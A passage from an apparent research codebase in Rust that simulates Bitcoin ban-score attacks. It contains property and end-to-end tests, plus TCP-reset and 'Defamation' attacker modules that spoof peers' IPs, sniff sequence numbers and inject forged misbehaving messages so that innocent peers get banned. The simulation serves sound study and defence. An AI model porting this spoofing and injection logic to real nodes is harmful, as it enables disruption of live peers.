        peer in arb_addr(),
    ) {
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::Standard);
        let mut prev = 0u32;
        for (i, (rule, inbound)) in rules.iter().enumerate() {
            let before = t.score(&peer);
            prop_assert_eq!(before, prev);
            match t.misbehaving(i as u64, peer, *inbound, *rule) {
                Verdict::Ignored => {
                    prop_assert_eq!(t.score(&peer), before);
                    prop_assert!(!rule.applies_to(*inbound) || rule.penalty(CoreVersion::V0_20).is_none());
                }
                Verdict::Scored { total } => {
                    prop_assert!(total > before);
                    prop_assert!(total < 100, "scored but total {} >= threshold", total);
                    prev = total;
                }
                Verdict::Ban { total } => {
                    prop_assert!(total >= 100);
                    // A real node disconnects and forgets here; stop.
                    return Ok(());
                }
            }
        }
    }

    #[test]
    fn deprecated_rules_never_score_anywhere(
        rule in arb_rule(),
        inbound in any::<bool>(),
        peer in arb_addr(),
    ) {
        for version in [CoreVersion::V0_20, CoreVersion::V0_21, CoreVersion::V0_22] {
            let mut t = MisbehaviorTracker::new(version, BanPolicy::Standard);
            let v = t.misbehaving(0, peer, inbound, rule);
            if rule.penalty(version).is_none() || !rule.applies_to(inbound) {
                prop_assert_eq!(v, Verdict::Ignored);
                prop_assert_eq!(t.score(&peer), 0);
            } else {
                prop_assert!(t.score(&peer) > 0);
            }
        }
    }

    #[test]
    fn banman_expiry_is_exact(
        peer in arb_addr(),
        ban_at in 0u64..1_000_000_000,
        duration in 1u64..1_000_000_000,
        probe in 0u64..3_000_000_000,
    ) {
        let mut bm = BanMan::with_duration(duration);
        bm.ban(ban_at, peer);
        let expect = probe >= ban_at && probe < ban_at + duration;
        prop_assert_eq!(bm.is_banned(probe, &peer), expect || probe < ban_at && {
            // Bans apply from creation; probing before creation reports
            // banned too (time never runs backwards in the simulator).
            probe < ban_at + duration
        });
    }

    #[test]
    fn banman_never_affects_other_identifiers(
        a in arb_addr(),
        b in arb_addr(),
        t in 0u64..1_000_000,
    ) {
        prop_assume!(a != b);
        let mut bm = BanMan::new();
        bm.ban(0, a);
        prop_assert!(!bm.is_banned(t, &b));
    }

    #[test]
    fn correlation_is_bounded_and_symmetric(
        a in proptest::collection::vec(0.0f64..1e6, 2..64),
        b_seed in proptest::collection::vec(0.0f64..1e6, 2..64),
    ) {
        let n = a.len().min(b_seed.len());
        let a = &a[..n];
        let b = &b_seed[..n];
        let r = correlation(a, b);
        prop_assert!((-1.0001..=1.0001).contains(&r), "rho {r}");
        let r2 = correlation(b, a);
        prop_assert!((r - r2).abs() < 1e-9);
    }

    #[test]
    fn window_distribution_is_a_distribution(
        counts in proptest::collection::vec(0u64..1_000_000, NUM_TYPES),
        reconnects in 0u64..1000,
    ) {
        let mut w = TrafficWindow::empty(10.0);
        w.counts.copy_from_slice(&counts);
        w.reconnects = reconnects;
        let d = w.distribution();
        prop_assert!(d.iter().all(|v| (0.0..=1.0).contains(v)));
        let sum: f64 = d.iter().sum();
        if w.total() > 0 {
            prop_assert!((sum - 1.0).abs() < 1e-9, "sum {sum}");
        } else {
            prop_assert_eq!(sum, 0.0);
        }
    }

    #[test]
    fn detector_never_flags_its_own_training_windows(
        seeds in proptest::collection::vec(1u64..1000, 5..40),
    ) {
        let windows: Vec<TrafficWindow> = seeds.iter().map(|s| {
            let mut w = TrafficWindow::empty(10.0);
            w.counts[12] = 1000 + s % 300;
            w.counts[6] = 900 + (s * 3) % 200;
            w.counts[4] = 200 + s % 100;
            w.reconnects = s % 3;
            w
        }).collect();
        let engine = AnalysisEngine::default();
        let profile = engine.train(&windows).unwrap();
        for w in &windows {
            let d = engine.detect(&profile, w);
            prop_assert!(!d.anomalous, "training window flagged: {d:?}");
        }
    }

    #[test]
    fn socket_model_rates_respect_caps(
        n in 1usize..64,
        msg_bytes in 1usize..4_000_000,
    ) {
        let m = SocketModel::default();
        let agg = m.aggregate_rate(n, msg_bytes);
        // Never exceeds the thread cap nor the line rate.
        prop_assert!(agg <= m.app_rate_cap * (n as f64) + 1e-9);
        prop_assert!(agg * (msg_bytes as f64) * 8.0 <= m.bandwidth_bps + 1e-3);
        // Monotone in n.
        let agg2 = m.aggregate_rate(n + 1, msg_bytes);
        prop_assert!(agg2 + 1e-9 >= agg);
        // Per-connection interval inverts the rate.
        let ival = m.min_interval(n, msg_bytes);
        prop_assert!(ival >= 1);
    }

    #[test]
    fn contention_model_is_monotone_and_bounded(
        msgs in 0u64..10_000_000,
        bytes in 0u64..10_000_000_000,
    ) {
        let m = banscore::ContentionModel::default();
        let l = m.app_layer_load(msgs, bytes, 10.0);
        let rate = m.mining_rate(l);
        prop_assert!(rate <= m.baseline_hash_rate + 1e-6);
        prop_assert!(rate >= m.baseline_hash_rate * (1.0 - m.s_max) - 1e-6);
    }
}
