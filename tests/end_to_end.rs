//! Cross-crate end-to-end tests: the full testbed with attacks, detection
//! and countermeasures interacting in one simulation.

use banscore::testbed::{addrs, Testbed, TestbedConfig};
use btc_attack::flood::{FloodConfig, Flooder};
use btc_attack::payload::FloodPayload;
use btc_detect::engine::AnalysisEngine;
use btc_netsim::packet::SockAddr;
use btc_netsim::sim::HostConfig;
use btc_netsim::time::{MINUTES, SECS};
use btc_node::banscore::CoreVersion;
use btc_node::node::NodeConfig;

#[test]
fn train_detect_respond_pipeline() {
    // Train on clean traffic, then attach a flood and detect it within one
    // window — the full Monitor → Dataset → Analysis Engine path of Fig. 9.
    let engine = AnalysisEngine::default();
    let mut tb = Testbed::build(TestbedConfig::default());
    tb.sim.run_for(21 * MINUTES);
    let windows = tb.windows(MINUTES, 21 * MINUTES, 5 * MINUTES);
    assert_eq!(windows.len(), 4);
    let profile = engine.train(&windows).expect("training data");

    // Continue the SAME simulation with an attacker attached.
    tb.sim.add_host(
        addrs::ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: tb.target_addr,
            payload: FloodPayload::Ping,
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    let attack_start = tb.sim.now();
    tb.sim.run_for(5 * MINUTES);
    let attack_window = tb.single_window(attack_start, attack_start + 5 * MINUTES);
    let verdict = engine.detect(&profile, &attack_window);
    assert!(verdict.anomalous, "{verdict:?}");
    assert!(verdict.n > profile.tau_n.1 * 10.0, "n {}", verdict.n);
}

#[test]
fn version_022_no_longer_bans_duplicate_version() {
    // The Defamation-via-VERSION attack of Figure 8 dies against a 0.22.0
    // rule set: the duplicate-VERSION rule was removed (Table I).
    let run = |version: CoreVersion| {
        let mut tb = Testbed::build(TestbedConfig {
            feeders: 0,
            node: NodeConfig {
                core_version: version,
                ..NodeConfig::default()
            },
            ..TestbedConfig::default()
        });
        tb.sim.add_host(
            addrs::ATTACKER,
            Box::new(Flooder::new(FloodConfig {
                target: tb.target_addr,
                payload: FloodPayload::DuplicateVersion,
                reconnect_on_ban: true,
                sybil_port_start: 50_000,
                ..FloodConfig::default()
            })),
            HostConfig::default(),
        );
        tb.sim.run_for(3 * SECS);
        tb.target_node().telemetry.bans
    };
    assert!(run(CoreVersion::V0_20) >= 5);
    assert!(run(CoreVersion::V0_21) >= 5, "0.21 still has the rule");
    assert_eq!(run(CoreVersion::V0_22), 0, "0.22 removed the VERSION rules");
}

#[test]
fn ban_expires_and_identifier_is_welcome_again() {
    let mut tb = Testbed::build(TestbedConfig {
        feeders: 0,
        node: NodeConfig {
            ban_duration: 5 * SECS, // shortened for the test
            ..NodeConfig::default()
        },
        ..TestbedConfig::default()
    });
    tb.sim.add_host(
        addrs::ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: tb.target_addr,
            payload: FloodPayload::InvalidPowBlock,
            sybil_port_start: 50_000,
            max_messages: Some(1),
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    tb.sim.run_for(2 * SECS);
    let banned_id = SockAddr::new(addrs::ATTACKER, 50_000);
    {
        let node = tb.target_node();
        assert!(node.banman.is_banned(tb.sim.now(), &banned_id));
    }
    tb.sim.run_for(10 * SECS);
    let now = tb.sim.now();
    let node = tb.target_node();
    assert!(!node.banman.is_banned(now, &banned_id), "ban should expire");
    // The maintenance sweep also cleans the table.
    assert_eq!(node.banman.len(), 0);
}

#[test]
fn never_ban_node_keeps_serving_the_network() {
    // §VIII: disabling banning does not affect normal operation.
    let mut tb = Testbed::build(TestbedConfig {
        node: NodeConfig {
            ban_policy: btc_node::banscore::BanPolicy::NeverBan,
            ..NodeConfig::default()
        },
        ..TestbedConfig::default()
    });
    tb.sim.run_for(2 * MINUTES);
    let node = tb.target_node();
    assert_eq!(node.inbound_count(), 3);
    assert!(node.telemetry.messages.len() > 200);
    assert!(node.mempool.len() > 50, "mempool {}", node.mempool.len());
}

#[test]
fn flood_does_not_disturb_honest_peers() {
    // While a PING flood runs, honest feeders keep their sessions and their
    // transactions keep landing in the mempool.
    let mut tb = Testbed::build(TestbedConfig::default());
    tb.sim.add_host(
        addrs::ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: tb.target_addr,
            payload: FloodPayload::Ping,
            connections: 10,
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    tb.sim.run_for(MINUTES);
    let node = tb.target_node();
    assert_eq!(node.inbound_count(), 3 + 10, "feeders + sybil connections");
    assert!(node.mempool.len() > 20, "mempool {}", node.mempool.len());
    assert_eq!(node.telemetry.bans, 0);
}

#[test]
fn impact_cost_table_shape_end_to_end() {
    // The Table II headline through the public API.
    let rows = btc_attack::meter::measure_table2(5);
    let ratio = |cmd: &str| {
        rows.iter()
            .find(|r| r.command == cmd)
            .map(|r| r.ratio)
            .expect("row")
    };
    assert!(ratio("block") > ratio("blocktxn"));
    assert!(ratio("blocktxn") > ratio("ping"));
    assert!(ratio("inv") < 1.0);
}

#[test]
fn whole_suite_is_deterministic() {
    let run = || {
        let mut tb = Testbed::build(TestbedConfig {
            innocents: 5,
            target_outbound: 2,
            ..TestbedConfig::default()
        });
        tb.sim.add_host(
            addrs::ATTACKER,
            Box::new(Flooder::new(FloodConfig {
                target: tb.target_addr,
                payload: FloodPayload::OversizeAddr,
                reconnect_on_ban: true,
                sybil_port_start: 51_000,
                ..FloodConfig::default()
            })),
            HostConfig::default(),
        );
        tb.sim.run_for(30 * SECS);
        let node = tb.target_node();
        (
            node.telemetry.messages.len(),
            node.telemetry.bans,
            node.tracker.events().len(),
            tb.sim.delivered_packets(),
        )
    };
    assert_eq!(run(), run());
}

#[test]
fn oversize_addr_attack_scores_twenty_per_message() {
    let mut tb = Testbed::build(TestbedConfig {
        feeders: 0,
        ..TestbedConfig::default()
    });
    tb.sim.add_host(
        addrs::ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: tb.target_addr,
            payload: FloodPayload::OversizeAddr,
            max_messages: Some(5),
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    tb.sim.run_for(3 * SECS);
    let node = tb.target_node();
    let events = node.tracker.events();
    assert_eq!(events.len(), 5, "{events:?}");
    assert!(events.iter().all(|e| e.delta == 20));
    assert_eq!(events.last().map(|e| e.total), Some(100));
    assert_eq!(node.telemetry.bans, 1);
}

#[test]
fn umbrella_crate_reexports_compile() {
    // The umbrella lib re-exports every crate; touch one symbol from each.
    let _ = banscore_suite::btc_wire::types::PROTOCOL_VERSION;
    let _ = banscore_suite::btc_netsim::time::SECS;
    let _ = banscore_suite::btc_node::banscore::CoreVersion::V0_20;
    let _ = banscore_suite::btc_attack::payload::FloodPayload::Ping;
    let _ = banscore_suite::btc_detect::features::NUM_TYPES;
    let _ = banscore_suite::banscore::contention::BASELINE_HASH_RATE;
}

#[test]
fn detection_response_drops_and_rebuilds_connections() {
    // The §VII loop closed: detect the flood, alert the node, node drops
    // inbound connections — the flood stops.
    let engine = AnalysisEngine::default();
    let mut tb = Testbed::build(TestbedConfig::default());
    tb.sim.run_for(11 * MINUTES);
    let profile = engine
        .train(&tb.windows(MINUTES, 11 * MINUTES, 5 * MINUTES))
        .expect("training data");
    tb.sim.add_host(
        addrs::ATTACKER,
        Box::new(Flooder::new(FloodConfig {
            target: tb.target_addr,
            payload: FloodPayload::Ping,
            connections: 5,
            ..FloodConfig::default()
        })),
        HostConfig::default(),
    );
    let attack_start = tb.sim.now();
    tb.sim.run_for(MINUTES);
    // Detect on the last minute of traffic.
    let verdict = engine.detect(&profile, &tb.single_window(attack_start, tb.sim.now()));
    assert!(verdict.anomalous);
    // Respond.
    tb.target_node_mut().request_connection_rebuild();
    tb.sim.run_for(2 * SECS);
    let sent_at_rebuild = {
        let attacker: &Flooder = tb.sim.app(addrs::ATTACKER).expect("flooder");
        assert_eq!(tb.target_node().inbound_count(), 0, "inbound not dropped");
        attacker.stats.messages_sent
    };
    // The flood is dead: no growth afterwards.
    tb.sim.run_for(10 * SECS);
    let attacker: &Flooder = tb.sim.app(addrs::ATTACKER).expect("flooder");
    assert_eq!(attacker.stats.messages_sent, sent_at_rebuild);
}
