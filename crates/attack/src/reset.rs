//! The TCP reset attack of §IV-A — the baseline the paper contrasts
//! Defamation against.
//!
//! A reset attacker needs the same sniffing capability as post-connection
//! Defamation (the live 4-tuple and sequence state), but it merely injects
//! a forged RST. The comparison the paper draws: *"using TCP reset attack
//! can only terminate a connection but can not ban a peer identifier for
//! 24 hours"* — the victim reconnects immediately, so the damage is a
//! blip, not a day-long blacklisting.

use btc_netsim::packet::{make_segment, PacketBody, SockAddr, TcpFlags};
use btc_netsim::sim::{App, Ctx, TapHandle};
use btc_netsim::time::{Nanos, MILLIS};
use btc_wire::bytes::Bytes;
use std::any::Any;
use std::collections::BTreeMap;

/// One forged reset.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ResetRecord {
    /// Injection time.
    pub time: Nanos,
    /// The connection endpoint that was impersonated.
    pub spoofed: SockAddr,
}

#[derive(Clone, Copy, Debug)]
struct ConnState {
    next_seq: u32,
    target_endpoint: SockAddr,
    reset_done: bool,
}

/// Sniffs victim connections (like [`crate::PostConnDefamer`]) and injects
/// forged RST segments instead of misbehaving messages.
pub struct TcpResetAttacker {
    /// The node whose connections get reset (`i`).
    pub target: SockAddr,
    /// IPs whose connections to the target are attacked.
    pub victim_ips: Vec<[u8; 4]>,
    /// The promiscuous tap.
    pub tap: TapHandle,
    /// Sniffer poll interval.
    pub poll: Nanos,
    /// Keep resetting re-established connections.
    pub persistent: bool,
    /// Forged resets injected.
    pub records: Vec<ResetRecord>,
    conns: BTreeMap<SockAddr, ConnState>,
}

impl TcpResetAttacker {
    /// Creates a reset attacker.
    pub fn new(target: SockAddr, victim_ips: Vec<[u8; 4]>, tap: TapHandle) -> Self {
        TcpResetAttacker {
            target,
            victim_ips,
            tap,
            poll: 10 * MILLIS,
            persistent: false,
            records: Vec::new(),
            conns: BTreeMap::new(),
        }
    }

    fn ingest(&mut self) {
        for cap in self.tap.drain() {
            let p = &cap.packet;
            let PacketBody::Tcp(seg) = &p.body else {
                continue;
            };
            if p.dst.ip != self.target.ip || !self.victim_ips.contains(&p.src.ip) {
                continue;
            }
            let entry = self.conns.entry(p.src).or_insert(ConnState {
                next_seq: 0,
                target_endpoint: p.dst,
                reset_done: false,
            });
            entry.target_endpoint = p.dst;
            if seg.flags.has(TcpFlags::SYN) {
                // A fresh connection: the first sighting is always fair
                // game; re-established connections are only re-attacked in
                // persistent mode.
                let first_sighting = entry.next_seq == 0;
                if self.persistent || first_sighting {
                    *entry = ConnState {
                        next_seq: seg.seq.wrapping_add(1),
                        target_endpoint: p.dst,
                        reset_done: false,
                    };
                }
            } else if !seg.payload.is_empty() {
                entry.next_seq = seg.seq.wrapping_add(seg.payload.len() as u32);
            }
        }
    }

    fn strike(&mut self, ctx: &mut Ctx<'_>) {
        let ready: Vec<SockAddr> = self
            .conns
            .iter()
            .filter(|(_, c)| !c.reset_done && c.next_seq != 0)
            .map(|(a, _)| *a)
            .collect();
        for spoofed in ready {
            let c = self.conns.get_mut(&spoofed).expect("present");
            c.reset_done = true;
            let (seq, endpoint) = (c.next_seq, c.target_endpoint);
            ctx.inject(make_segment(
                spoofed,
                endpoint,
                seq,
                0,
                TcpFlags::RST,
                Bytes::new(),
            ));
            self.records.push(ResetRecord {
                time: ctx.now(),
                spoofed,
            });
        }
    }
}

impl App for TcpResetAttacker {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.set_timer(self.poll, 1);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: u64) {
        self.ingest();
        self.strike(ctx);
        ctx.set_timer(self.poll, 1);
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

// Behaviour is exercised end-to-end in tests/reset_vs_defamation.rs.
