//! The Defamation attack (§IV): exploiting the ban score to get *innocent*
//! peers banned by the target node.
//!
//! * [`PreConnDefamer`] — the innocent identifier `j` is not yet connected
//!   to target `i`. The attacker needs only IP **spoofing**: it forges a
//!   complete TCP + Bitcoin handshake as `j` (it knows its own forged ISN,
//!   so no eavesdropping is required) and delivers one 100-point
//!   misbehaving message. `j` is banned for 24 h before it ever talks.
//! * [`PostConnDefamer`] — `j` and `i` already have a live connection. Per
//!   Algorithm 1, the attacker **sniffs** the connection through a tap,
//!   learns the 4-tuple and the live sequence number, **injects** a forged
//!   misbehaving message, and `i` bans `j`.

use btc_netsim::packet::{make_segment, PacketBody, SockAddr, TcpFlags};
use btc_netsim::sim::{App, Ctx, TapHandle};
use btc_netsim::time::{Nanos, MILLIS};
use btc_wire::message::{Message, RawMessage, VersionMessage};
use btc_wire::types::{NetAddr, Network};
use btc_wire::bytes::Bytes;
use std::any::Any;
use std::collections::BTreeMap;

/// The misbehaving frame a defamer delivers once it can speak as the
/// innocent peer. A mutated `BLOCK` is the paper's instant-ban choice
/// (+100); duplicate `VERSION`s (+1 each) model the slow Figure-8 variant.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub enum DefamationPayload {
    /// One structurally invalid block: +100, instant ban.
    #[default]
    InvalidBlock,
    /// A burst of `n` duplicate `VERSION` messages (+1 each).
    DuplicateVersions(u32),
}

fn misbehaving_frames(
    payload: DefamationPayload,
    network: Network,
    spoofed: SockAddr,
    target: SockAddr,
    nonce: u64,
) -> Vec<Bytes> {
    match payload {
        DefamationPayload::InvalidBlock => {
            // A *fresh* invalid block each strike: re-sending a block the
            // target has already cached as invalid only matches the
            // outbound-peer-only "cached as invalid" rule of Table I and
            // would not ban an inbound identifier.
            vec![crate::payload::FloodPayload::InvalidPowBlock.build(network, spoofed, target, nonce)]
        }
        DefamationPayload::DuplicateVersions(n) => (0..n)
            .map(|i| {
                crate::payload::FloodPayload::DuplicateVersion.build(
                    network,
                    spoofed,
                    target,
                    i as u64 + 2,
                )
            })
            .collect(),
    }
}

/// Record of one defamation strike.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct DefamationRecord {
    /// When the forged frames were injected.
    pub time: Nanos,
    /// The identifier that was framed.
    pub spoofed: SockAddr,
}

/// Pre-connection Defamation: preemptively ban identifiers of `victim_ip`
/// at the target, one port per tick.
pub struct PreConnDefamer {
    /// Target node (`i`).
    pub target: SockAddr,
    /// The innocent host whose identifiers get framed (`j`'s IP).
    pub victim_ip: [u8; 4],
    /// Ports to defame, in order.
    pub ports: Vec<u16>,
    /// Network magic.
    pub network: Network,
    /// Pace between ports (models the attacker's per-connection setup
    /// latency; the paper measures ≈0.1 s + 0.2 s per identifier).
    pub pace: Nanos,
    /// What to deliver.
    pub payload: DefamationPayload,
    /// Strikes performed.
    pub records: Vec<DefamationRecord>,
    next: usize,
    isn: u32,
}

impl PreConnDefamer {
    /// Creates a defamer for the given port list.
    pub fn new(target: SockAddr, victim_ip: [u8; 4], ports: Vec<u16>) -> Self {
        PreConnDefamer {
            target,
            victim_ip,
            ports,
            network: Network::Regtest,
            pace: 300 * MILLIS,
            payload: DefamationPayload::InvalidBlock,
            records: Vec::new(),
            next: 0,
            isn: 0x4444_0000,
        }
    }

    /// Whether every port has been defamed.
    pub fn done(&self) -> bool {
        self.next >= self.ports.len()
    }

    /// Forges the full connection + handshake + misbehavior burst for one
    /// spoofed identifier. Everything is injected back-to-back: FIFO
    /// delivery guarantees the target processes SYN, ACK, VERSION, VERACK,
    /// then the misbehaving payload, in order.
    fn strike(&mut self, ctx: &mut Ctx<'_>, port: u16) {
        let spoofed = SockAddr::new(self.victim_ip, port);
        let target = self.target;
        self.isn = self.isn.wrapping_add(0x10001);
        let isn = self.isn;
        // 1. Spoofed SYN.
        ctx.inject(make_segment(spoofed, target, isn, 0, TcpFlags::SYN, Bytes::new()));
        // 2. Spoofed ACK completing the handshake. We never see the
        //    SYN|ACK (it goes to the real victim, who silently ignores
        //    it), but we don't need it: only our own ISN matters for the
        //    sequence numbers the target will verify.
        let mut seq = isn.wrapping_add(1);
        ctx.inject(make_segment(
            spoofed,
            target,
            seq,
            0,
            TcpFlags::ACK,
            Bytes::new(),
        ));
        // 3. Spoofed Bitcoin session: VERSION + VERACK.
        let v = VersionMessage::new(
            NetAddr::new(spoofed.ip, spoofed.port),
            NetAddr::new(target.ip, target.port),
            u64::from(isn),
        );
        for frame in [
            RawMessage::frame(self.network, &Message::Version(v)).to_bytes(),
            RawMessage::frame(self.network, &Message::Verack).to_bytes(),
        ] {
            let len = frame.len() as u32;
            ctx.inject(make_segment(spoofed, target, seq, 0, TcpFlags::ACK, frame));
            seq = seq.wrapping_add(len);
        }
        // 4. The misbehaving payload.
        for frame in misbehaving_frames(self.payload, self.network, spoofed, target, u64::from(isn)) {
            let len = frame.len() as u32;
            ctx.inject(make_segment(spoofed, target, seq, 0, TcpFlags::ACK, frame));
            seq = seq.wrapping_add(len);
        }
        self.records.push(DefamationRecord {
            time: ctx.now(),
            spoofed,
        });
    }
}

impl App for PreConnDefamer {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.set_timer(self.pace, 1);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: u64) {
        if self.done() {
            return;
        }
        let port = self.ports[self.next];
        self.next += 1;
        self.strike(ctx, port);
        if !self.done() {
            ctx.set_timer(self.pace, 1);
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

/// Live sniffed state of one victim connection.
#[derive(Clone, Copy, Debug)]
struct SniffedConn {
    /// Next sequence number the target expects from the victim.
    next_seq: u32,
    /// The target-side endpoint of the connection (the target dials
    /// outbound peers from ephemeral ports, so this is not always :8333).
    target_endpoint: SockAddr,
    /// Whether the Bitcoin handshake looked complete (enough traffic seen).
    bytes_seen: u64,
    struck: bool,
}

/// Post-connection Defamation (Algorithm 1): sniff live connections from a
/// tap, learn `seq`, inject forged misbehavior.
pub struct PostConnDefamer {
    /// Target node (`i`).
    pub target: SockAddr,
    /// IPs whose connections to the target we defame (`j` candidates).
    pub victim_ips: Vec<[u8; 4]>,
    /// The promiscuous tap (install with
    /// `sim.add_tap(TapFilter::Host(target_ip))` before adding this app).
    pub tap: TapHandle,
    /// Network magic.
    pub network: Network,
    /// Sniffer poll interval.
    pub poll: Nanos,
    /// Don't strike before this virtual time (lets honest history, e.g.
    /// good-score credit, accumulate first in experiments).
    pub start_after: Nanos,
    /// What to deliver.
    pub payload: DefamationPayload,
    /// Minimum bytes sniffed from a connection before striking (lets the
    /// Bitcoin handshake finish so the forged frame is processed
    /// post-handshake).
    pub min_bytes_before_strike: u64,
    /// Strikes performed.
    pub records: Vec<DefamationRecord>,
    conns: BTreeMap<SockAddr, SniffedConn>,
    strike_nonce: u64,
}

impl PostConnDefamer {
    /// Creates a post-connection defamer.
    pub fn new(target: SockAddr, victim_ips: Vec<[u8; 4]>, tap: TapHandle) -> Self {
        PostConnDefamer {
            target,
            victim_ips,
            tap,
            network: Network::Regtest,
            poll: 10 * MILLIS,
            start_after: 0,
            payload: DefamationPayload::InvalidBlock,
            min_bytes_before_strike: 100,
            records: Vec::new(),
            conns: BTreeMap::new(),
            strike_nonce: 0x5000,
        }
    }

    /// Step 2–3 of Algorithm 1: real-time eavesdropping to learn the
    /// current sequence state of every victim connection.
    fn ingest_sniffed(&mut self) {
        for cap in self.tap.drain() {
            let p = &cap.packet;
            let PacketBody::Tcp(seg) = &p.body else {
                continue;
            };
            // Only victim → target segments carry the seq we must forge.
            if p.dst.ip != self.target.ip || !self.victim_ips.contains(&p.src.ip) {
                continue;
            }
            let entry = self.conns.entry(p.src).or_insert(SniffedConn {
                next_seq: 0,
                target_endpoint: p.dst,
                bytes_seen: 0,
                struck: false,
            });
            entry.target_endpoint = p.dst;
            if seg.flags.has(TcpFlags::SYN) {
                *entry = SniffedConn {
                    next_seq: seg.seq.wrapping_add(1),
                    target_endpoint: p.dst,
                    bytes_seen: 0,
                    struck: false,
                };
            } else if !seg.payload.is_empty() {
                entry.next_seq = seg.seq.wrapping_add(seg.payload.len() as u32);
                entry.bytes_seen += seg.payload.len() as u64;
            }
        }
    }

    /// Steps 4–5: craft and inject the forged misbehaving message.
    fn strike_ready(&mut self, ctx: &mut Ctx<'_>) {
        let ready: Vec<SockAddr> = self
            .conns
            .iter()
            .filter(|(_, c)| !c.struck && c.bytes_seen >= self.min_bytes_before_strike)
            .map(|(a, _)| *a)
            .collect();
        for spoofed in ready {
            let conn = self.conns.get_mut(&spoofed).expect("present");
            let mut seq = conn.next_seq;
            let endpoint = conn.target_endpoint;
            conn.struck = true;
            self.strike_nonce = self.strike_nonce.wrapping_add(1);
            for frame in
                misbehaving_frames(self.payload, self.network, spoofed, endpoint, self.strike_nonce)
            {
                let len = frame.len() as u32;
                ctx.inject(make_segment(
                    spoofed,
                    endpoint,
                    seq,
                    0,
                    TcpFlags::ACK,
                    frame,
                ));
                seq = seq.wrapping_add(len);
            }
            self.records.push(DefamationRecord {
                time: ctx.now(),
                spoofed,
            });
        }
    }
}

impl App for PostConnDefamer {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.set_timer(self.poll, 1);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: u64) {
        self.ingest_sniffed();
        if ctx.now() >= self.start_after {
            self.strike_ready(ctx);
        }
        ctx.set_timer(self.poll, 1);
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn misbehaving_frames_shapes() {
        let spoofed = SockAddr::new([10, 0, 0, 5], 50_000);
        let target = SockAddr::new([10, 0, 0, 1], 8333);
        let frames = misbehaving_frames(
            DefamationPayload::InvalidBlock,
            Network::Regtest,
            spoofed,
            target,
            1,
        );
        assert_eq!(frames.len(), 1);
        let frames = misbehaving_frames(
            DefamationPayload::DuplicateVersions(100),
            Network::Regtest,
            spoofed,
            target,
            2,
        );
        assert_eq!(frames.len(), 100);
    }

    #[test]
    fn preconn_walks_its_port_list() {
        let d = PreConnDefamer::new(
            SockAddr::new([10, 0, 0, 1], 8333),
            [10, 0, 0, 9],
            vec![50_000, 50_001],
        );
        assert!(!d.done());
        assert_eq!(d.ports.len(), 2);
    }
}
