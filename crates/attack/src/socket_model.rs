//! The attacker-side socket model: what limits the achievable flooding
//! rate.
//!
//! The paper reports three empirical caps for its Python attack
//! implementation (§VI-C): (1) an application-layer send cap of ~10³
//! messages per second per socket — "if the attacker node increases the
//! rate beyond that value … the pipeline breaks"; (2) sublinear scaling
//! when the attacker fans out over threads (GIL/scheduler contention);
//! (3) the NIC/link bandwidth, which is what actually limits megabyte
//! `BLOCK` floods. Network-layer tools (`hping`) bypass (1) and reach 10⁶
//! packets per second.

use btc_netsim::time::{Nanos, SECS};

/// Per-socket application-layer message rate cap (msg/s) — the paper's 10³.
pub const APP_LAYER_RATE_CAP: f64 = 1_000.0;

/// Attacker NIC bandwidth in bits/second (the testbed's gigabit-class
/// adapter, full-duplex headroom included).
pub const LINK_BANDWIDTH_BPS: f64 = 2.0e9;

/// Thread-efficiency exponent: `n` flooding threads achieve an aggregate
/// rate ∝ `n^THREAD_EFFICIENCY_EXP` (calibrated against Figure 6's Sybil
/// scaling; 1.0 would be perfect scaling).
pub const THREAD_EFFICIENCY_EXP: f64 = 0.35;

/// Network-layer (raw-socket) rate cap in packets/second — the paper's
/// `hping` ceiling of 10⁶.
pub const NETWORK_LAYER_RATE_CAP: f64 = 1_000_000.0;

/// The socket model of an application-layer flooding attacker.
#[derive(Clone, Copy, Debug)]
pub struct SocketModel {
    /// Per-socket rate cap (msg/s).
    pub app_rate_cap: f64,
    /// Link bandwidth (bits/s).
    pub bandwidth_bps: f64,
    /// Thread-efficiency exponent.
    pub thread_exp: f64,
}

impl Default for SocketModel {
    fn default() -> Self {
        SocketModel {
            app_rate_cap: APP_LAYER_RATE_CAP,
            bandwidth_bps: LINK_BANDWIDTH_BPS,
            thread_exp: THREAD_EFFICIENCY_EXP,
        }
    }
}

impl SocketModel {
    /// Aggregate achievable message rate (msg/s) over `n` connections for
    /// messages of `msg_bytes` on the wire.
    pub fn aggregate_rate(&self, n: usize, msg_bytes: usize) -> f64 {
        let n = n.max(1) as f64;
        let thread_rate = self.app_rate_cap * n.powf(self.thread_exp);
        let bw_rate = self.bandwidth_bps / 8.0 / msg_bytes.max(1) as f64;
        thread_rate.min(bw_rate)
    }

    /// Per-connection achievable rate (msg/s).
    pub fn per_conn_rate(&self, n: usize, msg_bytes: usize) -> f64 {
        self.aggregate_rate(n, msg_bytes) / n.max(1) as f64
    }

    /// Minimum inter-message interval for one of `n` connections, in
    /// virtual nanoseconds.
    pub fn min_interval(&self, n: usize, msg_bytes: usize) -> Nanos {
        let rate = self.per_conn_rate(n, msg_bytes);
        (SECS as f64 / rate).ceil() as Nanos
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
